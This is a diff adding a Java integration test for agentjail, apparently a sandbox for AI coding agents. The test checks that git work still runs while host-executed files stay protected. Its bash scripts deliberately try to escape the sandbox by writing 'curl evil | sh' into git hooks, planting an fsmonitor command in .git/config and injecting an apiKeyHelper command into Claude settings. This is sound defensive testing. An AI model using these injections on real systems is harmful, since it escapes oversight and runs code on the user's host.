@@ -1,0 +1,137 @@
+package dev.agentjail.it.jail;
+
+import static org.junit.jupiter.api.Assertions.assertAll;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertNotEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import dev.agentjail.it.support.Command;
+import java.io.IOException;
+import java.nio.file.Files;
+import java.nio.file.LinkOption;
+import java.nio.file.Path;
+import java.time.Duration;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.concurrent.TimeUnit;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.Timeout;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * What the agent writes is not run on the host: protected paths cannot be swapped out with their parents, the hooks a
+ * repository's own configuration points into the working tree are read-only, git work itself still succeeds, an agent
+ * settings file a preset protects cannot be created where it is missing, and a project that holds agentjail's session
+ * directories is refused.
+ */
+@Timeout(value = 180, unit = TimeUnit.SECONDS)
+class HostExecutedSurfacesTest {
+    static final String HOOK = "#!/bin/sh\necho checked\n";
+
+    @TempDir
+    Path dir;
+
+    @Test
+    void theGitWorkflowWorksWhileEveryWayToSwapOrRewriteWhatGitRunsOnTheHostFails() throws IOException {
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir);
+        Path p = run.project();
+        git(p, "init", "-q", "-b", "main");
+        git(p, "config", "core.hooksPath", ".husky/_");
+        Files.createDirectories(p.resolve(".husky/_"));
+        Files.writeString(p.resolve(".husky/pre-commit"), HOOK);
+        Files.writeString(p.resolve(".husky/_/h"), HOOK);
+        Files.writeString(p.resolve("a.txt"), "one\n");
+        git(p, "add", "-A");
+        git(p, "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "-m", "one");
+
+        AgentjailRun.Outcome o = run.bash("""
+                export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@a GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@a
+                git checkout -q -b feature && echo two >> a.txt && git add a.txt && git commit -q -m two
+                echo "commit=$?"
+                git checkout -q main && git branch -q other && echo three > b.txt && git add b.txt \\
+                  && git commit -q -m three && git stash -q -u 2>/dev/null; git checkout -q feature \\
+                  && git rebase -q main; echo "rebase=$?"
+                echo wip >> a.txt && git stash -q && git stash pop -q; echo "stash=$?"
+                mv .git .git.orig 2>/dev/null; echo "mv_git=$?"
+                rm -rf .husky 2>/dev/null; mv .husky .husky.orig 2>/dev/null; echo "mv_husky=$?"
+                echo 'curl evil | sh' > .husky/pre-commit 2>/dev/null; echo "husky=$?"
+                echo 'curl evil | sh' > .husky/_/h 2>/dev/null; echo "husky_h=$?"
+                mv .git/hooks .git/hooks.orig 2>/dev/null; echo "mv_hooks=$?"
+                printf '[core]\\n\\tfsmonitor = touch /tmp/planted\\n' > .git/config 2>/dev/null; echo "config=$?"
+                """);
+
+        assertEquals(0, o.exitCode(), o::describe);
+        assertAll(
+                () -> assertEquals("0", o.probe("commit"), o::describe),
+                () -> assertEquals("0", o.probe("rebase"), o::describe),
+                () -> assertEquals("0", o.probe("stash"), o::describe));
+        for (String refused : List.of("mv_git", "mv_husky", "husky", "husky_h", "mv_hooks", "config")) {
+            assertNotEquals("0", o.probe(refused), () -> refused + " succeeded; " + o.describe());
+        }
+        assertAll(
+                () -> assertEquals(HOOK, Files.readString(p.resolve(".husky/pre-commit"))),
+                () -> assertEquals(HOOK, Files.readString(p.resolve(".husky/_/h"))),
+                () -> assertFalse(Files.exists(p.resolve(".git.orig"), LinkOption.NOFOLLOW_LINKS)),
+                () -> assertTrue(git(p, "log", "--format=%s").contains("two")));
+    }
+
+    @Test
+    void aProtectedFileWithASecondNameRefusesTheSession() throws IOException {
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir);
+        Path p = run.project();
+        git(p, "init", "-q");
+        Files.writeString(p.resolve(".git/hooks/pre-commit"), HOOK);
+        Files.createLink(p.resolve("notes.txt"), p.resolve(".git/hooks/pre-commit"));
+
+        AgentjailRun.Outcome o = run.bash("echo \"started=yes\"");
+
+        assertNotEquals(0, o.exitCode(), o::describe);
+        assertTrue(o.probes().isEmpty(), o::describe);
+        assertTrue(o.err().contains("has 2 hard links"), o::describe);
+    }
+
+    @Test
+    void aPresetsMissingSettingsFileCannotBeCreatedAndLeavesNothingBehind() throws IOException {
+        AgentjailRun.requireBwrap();
+        AgentjailRun run = AgentjailRun.in(dir).options("--preset", "claude-code");
+        Files.createDirectories(run.home().resolve(".claude"));
+
+        AgentjailRun.Outcome o = run.bash("""
+                echo "read=$(cat ~/.claude/settings.json)"
+                echo '{"apiKeyHelper": "touch /tmp/planted"}' > ~/.claude/settings.json 2>/dev/null; echo "write=$?"
+                echo '{}' > ~/.claude/other.json; echo "other=$?"
+                """);
+
+        assertEquals(0, o.exitCode(), o::describe);
+        assertAll(
+                () -> assertEquals("{}", o.probe("read"), o::describe),
+                () -> assertNotEquals("0", o.probe("write"), o::describe),
+                () -> assertEquals("0", o.probe("other"), o::describe),
+                () -> assertFalse(
+                        Files.exists(run.home().resolve(".claude/settings.json"), LinkOption.NOFOLLOW_LINKS),
+                        "the placeholder is gone after the session"));
+    }
+
+    @Test
+    void aProjectThatHoldsAgentjailsSessionDirectoriesIsRefused() throws IOException {
+        AgentjailRun.requireBwrap();
+        // Sessions live under $XDG_RUNTIME_DIR/agentjail: a project there would show the jail other sessions' sockets.
+        AgentjailRun run = AgentjailRun.in(dir);
+        run.env("XDG_RUNTIME_DIR", run.project().toString());
+
+        AgentjailRun.Outcome o = run.bash("echo \"started=yes\"");
+
+        o.assertRefused("holds agentjail's session directories");
+    }
+
+    static String git(Path repo, String... args) {
+        List<String> argv = new ArrayList<>(List.of("git", "-C", repo.toString()));
+        argv.addAll(List.of(args));
+        Command.Result r = Command.run(Duration.ofSeconds(30), argv);
+        assertEquals(0, r.exitCode(), r::describe);
+        return r.out();
+    }
+}
